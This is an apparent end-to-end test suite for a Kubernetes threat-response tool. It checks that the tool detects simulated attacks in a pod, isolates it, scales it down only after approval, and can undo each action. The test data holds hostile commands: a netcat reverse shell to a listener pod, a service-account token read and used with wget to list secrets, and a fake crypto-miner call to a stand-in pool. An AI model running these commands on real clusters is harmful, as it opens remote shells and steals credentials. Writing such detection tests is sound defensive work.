/**
 * The product's promise: installed by its chart on a real cluster, what a pod does is seen and named, the pod is cut
 * off, its workload is scaled down once somebody agreed, and all of it can be taken back. The tests go on from each other.
 */
import { spawnSync } from 'node:child_process'
import { existsSync } from 'node:fs'
import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, jest } from '@jest/globals'
import { needs, reasonToSkip } from '../scripts/needs.ts'
import { type Cluster, startCluster } from './cluster/cluster.ts'
import { chart, importProduct, releaseArguments } from './cluster/install.ts'
import { references } from './cluster/images.ts'
import type { Pod } from './cluster/pods.ts'
import { eventually } from './support/eventually.ts'
import { Release } from './support/release.ts'

const test = needs('cluster', 'ebpf')
jest.setTimeout(240_000)

/** Cuts the pod off at once, asks before it scales anything. */
const policy = `
apiVersion: riposte.dev/v1alpha1
kind: ClusterResponsePolicy
metadata: { name: promise }
spec:
  mode: enforce
  match:
    rules: { names: [Reverse shell] }
    workloads: { namespaces: [shop] }
  correlate: { by: [pod], window: 1h, cooldown: 1m }
  ladder:
    - name: contain
      do: [{ label_pod: { labels: { state: quarantined } } }, isolate_pod]
      undo: { ttl: 1h }
    - name: stop
      do: [{ scale_down_deployment: { to: 0 } }]
      approve: { quorum: 1, timeout: 10m, reason: required }
      undo: { ttl: 1h }
`
const enabled = [
  'notify',
  'kill_process',
  'block_network',
  'capture_snapshot',
  'freeze',
  'label_pod',
  'isolate_pod',
  'scale_down_deployment',
]
const values = {
  actions: { enabled },
  policies: { custom: { '60-promise.yaml': policy }, resources: { keep: false } },
}

let cluster: Cluster
let release: Release
let before: ReadonlySet<string>
let web: Pod
let neighbour: Pod
let probe: Pod
let listener: Pod
const port = '8080'
/** Not httpd: it makes the connection its standard streams, which is what the rule is about. */
const serve = ['sh', '-c', `while true; do nc -l -p ${port} < /etc/group; done`]

/** Every object that the API server lists, but for what comes and goes by itself. */
async function allObjects(): Promise<Set<string>> {
  const kinds = await cluster.kubectl(['api-resources', '--verbs=list', '-oname'])
  const wanted = kinds
    .split('\n')
    .filter((kind) => !/^(?:events|leases|componentstatuses|$)/.test(kind))
  const listed = await cluster.kubectl([
    'get',
    wanted.join(','),
    '-A',
    '--ignore-not-found',
    '-ocustom-columns=K:.kind,S:.metadata.namespace,N:.metadata.name',
    '--no-headers',
  ])
  return new Set(
    listed
      .split('\n')
      .map((line) => line.trim().replaceAll(/\s+/g, ' '))
      .filter((line) => line !== ''),
  )
}

async function makeShop(): Promise<void> {
  for (const name of ['shop', 'outside', 'riposte'])
    await cluster.apply({ apiVersion: 'v1', kind: 'Namespace', metadata: { name } })
  const container = {
    name: 'main',
    image: references.busybox,
    imagePullPolicy: 'Never',
    command: serve,
  }
  const labels = { app: 'web', tier: 'front' }
  const template = {
    metadata: { labels },
    spec: {
      nodeSelector: { 'kubernetes.io/hostname': 'n2' },
      terminationGracePeriodSeconds: 0,
      containers: [container],
    },
  }
  await cluster.apply({
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'web', namespace: 'shop' },
    spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, template },
  })
  const listen = ['sh', '-c', 'while true; do echo id | nc -l -p 4444; done']
  ;[neighbour, probe, listener] = await Promise.all([
    cluster.runPod({ name: 'neighbour', namespace: 'shop', node: 'n2', command: serve }),
    cluster.runPod({ name: 'probe', namespace: 'shop', node: 'n1', command: serve }),
    cluster.runPod({ name: 'listener', namespace: 'outside', node: 'n1', command: listen }),
  ])
  web = await webPod()
}

/** The one that runs now. */
async function webPod(): Promise<Pod> {
  const { items } = await cluster.waitFor<{ items: readonly Pod[] }>(
    '/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb',
    (found) => (found?.items ?? []).some(isUp),
  )
  const found = items.find(isUp)
  if (found === undefined) throw new Error('no web pod')
  return found
}
const isUp = ({ metadata, status }: Pod): boolean =>
  metadata['deletionTimestamp'] === undefined &&
  (status.conditions ?? []).some((each) => each.type === 'Ready' && each.status === 'True')

beforeAll(async () => {
  if (reasonToSkip('cluster', 'ebpf') !== undefined) return
  cluster = await startCluster({ say: (line) => process.stderr.write(`cluster: ${line}\n`) })
  await Promise.all([makeShop(), importProduct(cluster)])
  before = await allObjects()
  release = new Release(cluster)
})
afterAll(async () => {
  await cluster?.[Symbol.asyncDispose]()
})

/** Asked a few times, as the listener begins anew after each connection. */
const canReach = async (from: Pod, to: Pod): Promise<boolean> => {
  const ask = `for i in 1 2 3; do nc -w 1 ${to.status.podIP} ${port} < /dev/null | grep -q root && echo yes && break; done; true`
  return (await cluster.exec(from, 'sh', '-c', ask)).trim() === 'yes'
}

/** What the shell of an attacker does in the pod; its own exit code says nothing. */
const attack = async (pod: Pod, script: string): Promise<void> => {
  await cluster.exec(pod, 'sh', '-c', `{ ${script}; } >/dev/null 2>&1 || true`)
}

const replicasOf = async (): Promise<unknown> =>
  (
    await cluster.api.get<{ spec: { replicas: number } }>(
      '/apis/apps/v1/namespaces/shop/deployments/web',
    )
  ).spec.replicas

test('helm installs it, and every pod is ready with nothing wrong', async () => {
  const release4 = ['install', 'riposte', chart, ...releaseArguments(values)]
  await cluster.helm([...release4, '--wait', '--timeout=3m'])
  const pods = await cluster.kubectl([
    'get',
    'pods',
    '-n',
    'riposte',
    '-ojsonpath={range .items[*]}{.metadata.labels.app\\.kubernetes\\.io/component} {.spec.nodeName} {.status.containerStatuses[0].restartCount}{"\\n"}{end}',
  ])
  expect(
    pods
      .trim()
      .split('\n')
      .toSorted()
      .map((line) => line.replace(/^(redis|responder) \w+/, '$1 any')),
  ).toEqual(['detector n1 0', 'detector n2 0', 'redis any 0', 'responder any 0'])
  // The detectors found the certificate, were believed by their tokens, and both said so.
  const status = await eventually(
    () => release.riposte('status').catch(String),
    (said) => /\nn1 .*\n/.test(said) && /\nn2 .*\n?/.test(said) && !said.includes('degraded'),
    60_000,
  )
  expect(status).toContain('kill switch: off')
})

const rights = async (account: string, verb: string, resource: string): Promise<boolean> => {
  const asked = [
    'auth',
    'can-i',
    verb,
    resource,
    '-A',
    `--as=system:serviceaccount:riposte:riposte-${account}`,
  ]
  return (await cluster.kubectl(asked).catch(String)).trim() === 'yes'
}

test('its accounts may do what the enabled actions need, and nothing else', async () => {
  expect(await rights('disrupt', 'patch', 'deployments.apps')).toBe(true)
  expect(await rights('contain', 'patch', 'deployments.apps')).toBe(false)
  expect(await rights('contain', 'patch', 'pods')).toBe(true)
  expect(await rights('responder', 'patch', 'pods')).toBe(false)
  for (const [verb, resource] of [
    ['get', 'secrets'],
    ['delete', 'pods'],
    ['create', 'pods'],
    ['create', 'pods/exec'],
    ['patch', 'nodes'],
    ['create', 'clusterrolebindings'],
  ] as const)
    for (const account of ['responder', 'detector', 'mark', 'contain', 'disrupt'])
      expect([account, resource, await rights(account, verb, resource)]).toEqual([
        account,
        resource,
        false,
      ])
})

test.each([
  [
    'Crypto miner started',
    'ln -s /bin/busybox /tmp/xmrig; /tmp/xmrig -o stratum+tcp://pool.example:3333',
  ],
  ['Program directory written', 'cp /bin/busybox /bin/brought'],
  ['Program that is not of the image started', '/bin/brought true'],
  [
    'Service account token read by a tool',
    'T=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token); wget --no-check-certificate -q -O - --header "Authorization: Bearer $T" https://$KUBERNETES_SERVICE_HOST/api/v1/namespaces/shop/secrets',
  ],
])(
  '%s: the responder knows whose it was, down to the image and the labels',
  async (rule, script) => {
    await attack(web, script)
    const { node, place } = await release.alert(
      rule,
      (alert) => alert.place?.pod?.uid === web.metadata.uid,
    )
    const status = web.status.containerStatuses?.[0]
    expect({ node, place }).toMatchObject({
      node: 'n2',
      place: {
        isPending: false,
        containerId: status?.containerID?.replace('containerd://', '').slice(0, 12),
        container: {
          name: 'main',
          image: references.busybox,
          imageDigest: status?.imageID.replace(/^.*@/, ''),
          runtime: 'containerd',
        },
        pod: {
          uid: web.metadata.uid,
          namespace: 'shop',
          name: web.metadata.name,
          serviceAccount: 'default',
          labels: { app: 'web', tier: 'front' },
        },
      },
    })
    expect(place?.pod?.owners.map(({ kind, name }) => `${kind} ${name}`).at(-1)).toBe(
      'Deployment web',
    )
  },
)

test('a reverse shell cuts its pod off in both directions, and no neighbour', async () => {
  expect(await canReach(probe, web)).toBe(true)
  expect(await canReach(web, neighbour)).toBe(true)

  await attack(web, `timeout 3 nc ${listener.status.podIP} 4444 -e sh`)
  await release.alert('Reverse shell', (alert) => alert.place?.pod?.uid === web.metadata.uid)
  await eventually(
    () => canReach(probe, web),
    (isReached) => !isReached,
  )

  expect(await canReach(web, neighbour)).toBe(false)
  expect(await canReach(web, listener)).toBe(false)
  expect(await canReach(probe, neighbour)).toBe(true)
  expect(await canReach(neighbour, probe)).toBe(true)
})

test('kubectl shows what is live, and takes a policy', async () => {
  const shown = (what: string) =>
    cluster.kubectl(['get', what, '--namespace=riposte', '--no-headers', '--ignore-not-found'])
  await eventually(
    () => shown('containments'),
    (text) => /isolate_pod +pod shop\/\S+ +live/.test(text),
  )
  await cluster.apply(
    JSON.stringify({
      apiVersion: 'riposte.dev/v1alpha1',
      kind: 'ResponsePolicy',
      metadata: { name: 'own', namespace: 'shop' },
      spec: {
        match: { rules: { names: ['Crypto miner started'] } },
        ladder: [{ name: 'tell', do: ['notify'] }],
      },
    }),
  )
  const states = () =>
    cluster.kubectl(['get', 'responsepolicies', '--namespace=shop', '--no-headers'])
  await eventually(states, (text) => /^own\s+(?:<none>\s+)?Audit\s/.test(text))
})

test('undo connects it again', async () => {
  const live = (await release.containments()).find(({ action }) => action === 'isolate_pod')
  await release.riposte('containments', 'undo', String(live?.id))
  await eventually(() => canReach(probe, web), Boolean)
  expect(await canReach(web, neighbour)).toBe(true)
})

test('its Deployment is scaled down only after somebody agreed, and undo brings it back', async () => {
  const [asked] = await release.approvals()
  expect(asked).toMatchObject({
    action: 'scale_down_deployment',
    status: 'pending',
    policy: 'promise',
  })
  expect(await replicasOf()).toBe(1)

  await release.riposte('approvals', 'approve', String(asked?.id), '--reason=seen')
  await eventually(replicasOf, (replicas) => replicas === 0)
  await cluster.waitFor<{ items: readonly Pod[] }>(
    '/api/v1/namespaces/shop/pods?labelSelector=app%3Dweb',
    (found) => found?.items.length === 0,
  )

  const live = await eventually(
    () => release.containments(),
    (all) => all.some(({ action }) => action === 'scale_down_deployment'),
  )
  await release.riposte(
    'containments',
    'undo',
    String(live.find(({ action }) => action === 'scale_down_deployment')?.id),
  )
  await eventually(replicasOf, (replicas) => replicas === 1)
  expect(await canReach(probe, await webPod())).toBe(true)
})

test('the audit log of the API server names the class that did it', async () => {
  const log = await readFile(cluster.auditLogPath, 'utf8')
  const doneBy = (what: string, account: string) =>
    log
      .split('\n')
      .some(
        (line) =>
          line.includes('"verb":"patch"') &&
          line.includes(what) &&
          line.includes(
            `"impersonatedUser":{"username":"system:serviceaccount:riposte:${account}"`,
          ),
      )
  expect(doneBy(`/pods/${web.metadata.name}`, 'riposte-mark')).toBe(true)
  expect(doneBy('/deployments/web', 'riposte-disrupt')).toBe(true)
})

test('the audit chain holds what was done, and by whom', async () => {
  const chain = await release.riposte('audit', 'verify')
  expect(chain).toMatch(/\d+ records/)
})

test('helm 3 upgrades what helm 4 installed, to enforce, without losing a pod', async () => {
  await cluster.helm3([
    'upgrade',
    'riposte',
    chart,
    ...releaseArguments({ ...values, mode: 'enforce' }),
    '--wait',
    '--timeout=3m',
  ])
  // A ConfigMap reaches the pod within a minute or so, by the kubelet's own rounds.
  await eventually(
    () => release.riposte('policies', 'list'),
    (listed) => /crypto-miner +enforce/.test(listed),
    150_000,
  )
})

const attachedPrograms = () =>
  spawnSync('bpftool', ['cgroup', 'tree', '/sys/fs/cgroup'], { encoding: 'utf8' }).stdout

test('helm uninstall leaves nothing but the folder on the nodes', async () => {
  await cluster.helm(['uninstall', 'riposte', '--namespace=riposte', '--wait', '--timeout=3m'])
  const left = await eventually(
    async () =>
      [...(await allObjects())].filter((each) => !before.has(each) && each.includes(' riposte')),
    (found) => found.length === 0,
    60_000,
  )
  expect(left).toEqual([])
  for (const { folder, cgroupRoot } of cluster.nodes) {
    expect(attachedPrograms()).not.toContain(`${cgroupRoot}/`)
    expect(existsSync(join(folder, 'var/lib/riposte'))).toBe(true)
  }
})
